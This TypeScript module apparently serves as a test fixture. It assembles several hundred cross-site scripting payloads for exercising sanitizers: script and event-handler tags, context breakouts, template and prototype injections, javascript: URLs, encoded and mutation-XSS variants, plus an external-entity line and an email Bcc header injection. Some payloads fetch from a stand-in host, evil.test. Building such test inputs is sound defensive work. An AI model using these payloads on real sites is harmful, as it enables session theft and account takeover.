/**
 * More than 300 cross-site scripting payloads. Each would set `window.hurt`, open a dialog, or request an attacker's server if it were
 * interpreted as markup, script, style or a URL.
 */
const DO = 'window.hurt=1'
const AWAY = '//evil.test/x'

/** Elements that execute code without user interaction. */
const byThemselves = [
  `<script>${DO}</script>`,
  `<script src=${AWAY}></script>`,
  `<script>alert(1)</script>`,
  `<script type=module>${DO}</script>`,
  `<img src=x onerror=${DO}>`,
  `<img src=${AWAY}>`,
  `<img srcset="${AWAY} 1x">`,
  `<img src=x:x onerror=confirm(1)>`,
  `<svg onload=${DO}>`,
  `<svg><script>${DO}</script></svg>`,
  `<svg><animate onbegin=${DO} attributeName=x dur=1s>`,
  `<svg><image href=${AWAY} onerror=${DO} />`,
  `<svg><use href="${AWAY}#a"/></svg>`,
  `<svg><style>@import url(${AWAY})</style></svg>`,
  `<math><mtext><img src=x onerror=${DO}></mtext></math>`,
  `<iframe srcdoc="<script>parent.hurt=1</script>"></iframe>`,
  `<iframe src=javascript:parent.hurt=1></iframe>`,
  `<iframe src=${AWAY}></iframe>`,
  `<iframe onload=${DO}></iframe>`,
  `<object data=${AWAY}></object>`,
  `<embed src=${AWAY}>`,
  `<video src=x onerror=${DO}></video>`,
  `<video><source onerror=${DO}></video>`,
  `<video poster=${AWAY}></video>`,
  `<audio src=x onerror=${DO}></audio>`,
  `<input autofocus onfocus=${DO}>`,
  `<textarea autofocus onfocus=${DO}>`,
  `<select autofocus onfocus=${DO}>`,
  `<button autofocus onfocus=${DO}>`,
  `<details open ontoggle=${DO}>`,
  `<marquee onstart=${DO}>x</marquee>`,
  `<body onload=${DO}>`,
  `<body onpageshow=${DO}>`,
  `<frameset onload=${DO}>`,
  `<link rel=stylesheet href=${AWAY}>`,
  `<link rel=preload as=image href=${AWAY} onerror=${DO}>`,
  `<style>@import '${AWAY}'</style>`,
  `<style>*{background:url(${AWAY})}</style>`,
  `<style onload=${DO}></style>`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<base href=${AWAY}>`,
  `<p style="background:url(${AWAY})">x`,
  `<p style="animation:x 1s" onanimationstart=${DO}>`,
  `<x onclick=${DO} id=x tabindex=1 autofocus onfocus=${DO}>`,
  `<noscript><p title="</noscript><img src=x onerror=${DO}>">`,
  `<template><script>${DO}</script></template><img src=x onerror=${DO}>`,
  `<form action=${AWAY}><input name=password autofocus onfocus=${DO}></form>`,
  `<table background=${AWAY}><tr><td>x</table>`,
  `<xmp><img src=x onerror=${DO}></xmp><img src=x onerror=${DO}>`,
  `<dialog open onbeforetoggle=${DO}>x</dialog>`,
]

/** Closings of contexts in which a page may have inserted the text. */
const wayOut = [
  '">',
  `'>`,
  '--><',
  ']]>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '`>',
  '&quot;>',
]
const runs = [
  `<img src=x onerror=${DO}>`,
  `<svg/onload=${DO}>`,
  `<script>${DO}</script>`,
  `<iframe srcdoc="<script>parent.hurt=1</script>">`,
]

/** Attribute injections, which need no angle brackets. */
const attributes = ['"', `'`, '` ', '\\"', '&#34;', '" x="'].flatMap((end) =>
  ['autofocus onfocus=', 'onmouseover=', 'style=animation:x onanimationend=', 'onerror=', 'onload='].map(
    (handler) => `${end} ${handler}${DO} x=${end}`,
  ),
)

/** Injections into a script or its JSON. */
const inScript = [
  `";${DO};//`,
  `';${DO};//`,
  `\\";${DO};//`,
  `\\u0022;${DO};//`,
  `\${${DO}}`,
  `\`;${DO};//`,
  `</script><script>${DO}</script>`,
  `<!--<script>${DO}</script>`,
  `\u2028${DO}\u2029`,
  `*/${DO}/*`,
  `"}]};${DO};[{"`,
  `__proto__[hurt]=1`,
  `{"__html":"<img src=x onerror=${DO}>"}`,
  `{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"x"}}}`,
  `)};${DO};({`,
  `%22;${DO};//`,
  `\\x3cscript\\x3e${DO}\\x3c/script\\x3e`,
  `$1$&$\`${DO}`,
]

/** Template expressions, for pages and emails that use a template language. */
const templates = [
  `{{constructor.constructor('${DO}')()}}`,
  `{{${DO}}}`,
  `{{{<img src=x onerror=${DO}>}}}`,
  `<%= ${DO} %>`,
  `#{${DO}}`,
  `[[${DO}]]`,
  `{%raw%}<script>${DO}</script>{%endraw%}`,
  `@{${DO}}`,
  `{{app_url}}{{support_email}}`,
  `{{message_text}}{{message_text}}`,
  `*|${DO}|*`,
  `%%${DO}%%`,
  `ng-app ng-csp {{$on.constructor('${DO}')()}}`,
  `v-html="<img src=x onerror=${DO}>"`,
]

/** URLs that execute code. */
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
]
const addresses = [
  ...schemes.flatMap((scheme) => [
    `${scheme}${DO}`,
    `<a href="${scheme}${DO}">x</a>`,
    `[x](${scheme}${DO})`,
    `<${scheme}${DO}>`,
    `<form action="${scheme}${DO}"><button>x</button></form>`,
  ]),
  `data:text/html,<script>${DO}</script>`,
  `[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaHVydD0xPC9zY3JpcHQ+)`,
  `vbscript:${DO}`,
  `blob:https://evil.test/x`,
  `https://golf.example"onmouseover="${DO}`,
  `https://golf.example/<img src=x onerror=${DO}>`,
  `https://a@evil.test/ https:evil.test http://[::1]/`,
  `![x](${AWAY})`,
  `![x](x"onerror="${DO})`,
  `mailto:x@evil.test?bcc=all@evil.test&body=<script>${DO}</script>`,
]

/** The same payloads in other encodings, for filters that check before decoding or that decode twice. */
const disguised = byThemselves
  .slice(0, 20)
  .flatMap((markup) => [
    markup.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
    encodeURIComponent(markup).slice(0, 110),
    markup.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
    markup.replaceAll('<', '<\u200b'),
    markup.toUpperCase().replaceAll('WINDOW.HURT', 'window.hurt'),
  ])

/** Markup that changes when it is parsed, serialized and parsed again. */
const shifting = [
  `<svg></p><style><a id="</style><img src=x onerror=${DO}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${DO}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${DO}>`,
  `<a<b onmouseover=${DO}>`,
  `<<script>${DO}//<</script>`,
  `<scr<script>ipt>${DO}</scr</script>ipt>`,
  `<img src="x\` onerror=${DO}>`,
  `<img/src=x/onerror=${DO}>`,
  `<img src=x onerror\n=\n${DO}>`,
  `<svg><![CDATA[><img src=x onerror=${DO}>]]>`,
  `<?xml-stylesheet href="javascript:${DO}"?>`,
  `<!ENTITY x SYSTEM "${AWAY}"> &x;`,
  `<!doctype html><html onload=${DO}>`,
  `\u202e>1=truh.wodniw=rorreno x=crs gmi<`,
  `Hello\r\nBcc: all@evil.test\r\n\r\n<script>${DO}</script>`,
]

/** Short enough for a title, without duplicates. */
export const hostileWords: readonly string[] = [
  ...new Set([
    ...byThemselves,
    ...wayOut.flatMap((end) => runs.map((run) => `${end}${run}`)),
    ...attributes,
    ...inScript,
    ...templates,
    ...addresses,
    ...disguised,
    ...shifting,
  ]),
].filter((words) => words.length <= 118)

/** Joins the payloads into a few texts of limited length, for long fields. */
export function hostileTexts(atMost: number): string[] {
  const texts: string[] = []
  for (const words of hostileWords) {
    const last = texts.at(-1)
    if (last !== undefined && last.length + words.length < atMost)
      texts[texts.length - 1] = `${last}\n${words}`
    else texts.push(words)
  }
  return texts
}
